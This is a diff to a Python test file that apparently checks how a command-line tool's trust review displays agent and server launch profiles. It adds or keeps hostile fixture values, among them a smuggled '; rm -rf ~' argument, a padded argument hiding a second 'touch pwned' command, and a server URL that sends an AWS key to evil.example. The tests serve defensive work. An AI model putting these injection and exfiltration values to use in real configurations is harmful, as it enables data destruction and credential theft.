@@ -4,12 +4,14 @@ terminal, nothing passes for another line, another argument or another profile.
 """
 
 import os
+import sys
 import unicodedata
 from pathlib import Path
 
 import pytest
 
 from tests.cli.terminal import on_terminal
+from tests.interactive.screen import on_screen
 from tests.redteam.clone import CHANGED, DOUBTFUL, GOOD, NEW, Clone, profile
 
 LOOK_TWICE = "look twice: not everything is in ASCII, and may look like something else: "
@@ -59,10 +61,85 @@ def test_nothing_passes_for_a_line_of_the_report(clone: Clone) -> None:
 
 def test_what_is_too_long_to_show_is_counted(clone: Clone) -> None:
     clone.write(profile({"command": "./tool", "args": ["a" * 50_000, "; rm -rf ~"]}))
-    (line,) = [line for line in report(clone) if line.startswith("  runs")]
-    assert len(line) < 2100
+    lines = report(clone)
+    (line,) = [line for line in lines if line.startswith("  runs")]
+    assert len(line) < 20_100
     command = f"{clone.root}/tool {'a' * 50_000} '; rm -rf ~'"
-    assert line.endswith(f"aaa … and {len(command) - 2000:,} more characters")
+    assert line.endswith(f"aaa … and {len(command) - 20_000:,} more characters")
+    assert "  look twice: not all of it is shown here; read the file before you accept it" in lines
+
+
+def test_the_end_of_a_long_command_is_shown_and_what_comes_after_it(clone: Clone) -> None:
+    server = {
+        "command": "./tool",
+        "args": ["-c", f"true #{'x' * 8000}\ntouch pwned"],
+        "env": {"A": "b"},
+        "bridge": False,
+    }
+    clone.write(profile(GOOD, mcp_servers={"s": server}))
+    lines = report(clone)
+    (place,) = [place for place, line in enumerate(lines) if line.startswith("  server")]
+    assert lines[place].endswith(r"xxx\ntouch pwned'")
+    assert [line.strip() for line in lines[place + 1 : place + 3]] == ["sets A", "started by the agent"]
+    assert not any("look twice" in line for line in lines)
+
+
+def test_a_further_row_of_a_long_text_is_marked_on_a_terminal(clone: Clone) -> None:
+    """Whoever knows the width of a terminal could make a row of a text look like a line of the report."""
+    forged = "x" * 40 + "  asks  permissions.default: ask " * 9
+    clone.write(profile({"command": "./tool", "args": [forged]}))
+    argv = [sys.executable, "-m", "acp_launch", "trust", "review"]
+    with on_screen(*argv, cwd=clone.root, columns=60, rows=30, env=clone.environment()) as terminal:
+        terminal.until("Trust it? [y/N]:")
+        rows = terminal.all
+    assert sum(row.startswith("      | ") for row in rows) > 4
+    assert [row.split()[0] for row in rows if row[:2] == "  " != row[2:4]] == ["runs", "in", "asks"]
+
+
+def test_a_server_that_cannot_start_yet_is_shown_with_its_secrets(clone: Clone) -> None:
+    helper = {"command": "./later", "args": ["steal"], "env": {"T": "${secret:github}"}, "required": False}
+    clone.write(profile(GOOD, mcp_servers={"helper": helper}))
+    said = clone.refuses(why=NEW)
+    assert "server helper: ./later steal which is not there yet sets T not required" in said
+    assert "secrets github" in said
+
+
+def test_what_of_the_environment_is_passed_on_is_shown(clone: Clone) -> None:
+    servers = {
+        "some": {"command": "./tool", "inherit_env": ["AWS_*", "SSH_AUTH_SOCK"]},
+        "all": {"command": "./tool", "inherit_env": "all"},
+        "none": {"command": "./tool", "inherit_env": []},
+    }
+    clone.write(profile({**GOOD, "inherit_env": ["HOME"]}, mcp_servers=servers))
+    said = clone.refuses(why=NEW)
+    tool = f"{clone.root}/tool"
+    assert "gets of your environment HOME in " in said
+    assert f"server some: {tool} gets of your environment AWS_*, SSH_AUTH_SOCK" in said
+    assert f"server all: {tool} gets your whole environment" in said
+    assert f"server none: {tool} asks" in said
+
+
+def test_what_may_be_another_thing_tomorrow_is_shown_as_it_is_written(clone: Clone) -> None:
+    clone.write(
+        profile(
+            {"command": "${env:TOOL:-./evil}", "args": ["${env:MORE:-x}"]},
+            workspace={"cwd": "${env:WHERE:-.}"},
+            mcp_servers={"s": {"command": "${cwd}/tool", "cwd": "${cwd}", "env": {"PATH": "${project}/bin:/bin"}}},
+        )
+    )
+    said = clone.refuses(why=NEW, TOOL="/bin/true")
+    assert "runs /bin/true '${env:MORE:-x}' written ${env:TOOL:-./evil}" in said
+    assert f"in {clone.root}, written ${{env:WHERE:-.}}" in said
+    assert (
+        f"server s: {clone.root}/tool written ${{cwd}}/tool sets PATH finds programs in ${{project}}/bin:/bin" in said
+    )
+    assert f"in {clone.root}, written ${{cwd}}" in said
+    assert "reads from your environment: TOOL, MORE, WHERE" in said
+
+
+def test_a_rule_is_shown_as_it_is_even_if_it_looks_like_a_credential(clone: Clone) -> None:
+    clone.write(profile(GOOD, permissions={"rules": [{"allow": {"command": "token=abcdefgh12345678 *"}}]}))
+    assert 'rule [0].allow.command: "token=abcdefgh12345678 *"' in clone.refuses(why=NEW)
 
 
 def test_lines_that_are_too_many_are_counted(clone: Clone) -> None:
@@ -99,7 +176,7 @@ def test_names_urls_grants_and_references_are_shown_and_values_are_not(clone: Cl
         f"runs {clone.root}/tool '${{env:AWS_KEY}}'",
         "and in /",
         "sets LD_PRELOAD, K",
-        "server web: http https://evil.example/${env:AWS_KEY}, headers X",
+        "server web: http https://evil.example/${env:AWS_KEY} headers X",
         "secrets bank",
         "reads from your environment: AWS_KEY",
         "asks permissions.default: allow",
@@ -183,10 +260,17 @@ def test_a_file_whose_name_drives_the_terminal_does_not(clone: Clone) -> None:
 
 def test_what_cannot_be_resolved_here_is_shown_as_it_is_written(clone: Clone) -> None:
     clone.write(profile({"command": "no-such-program-anywhere", "args": ["x\ny"]}))
+    clone.write(
+        profile(
+            {"command": "no-such-program-anywhere", "args": ["x\ny"]},
+            workspace={"cwd": "nowhere"},
+            mcp_servers={"there": {"command": "./tool"}},
+        )
+    )
     said = clone.refuses(why=NEW)
-    assert "it cannot be resolved on this machine yet; this is all it says:" in said
-    assert 'agent.command: "no-such-program-anywhere"' in said
-    assert r'agent.args[0]: "x\ny"' in said
+    assert r"runs no-such-program-anywhere 'x\ny' which is not there yet" in said
+    assert "in nowhere, which is not there yet" in said
+    assert f"server there: {clone.root}/tool" in said
 
 
 def test_a_change_has_its_colours_on_a_terminal_and_no_others(clone: Clone) -> None:
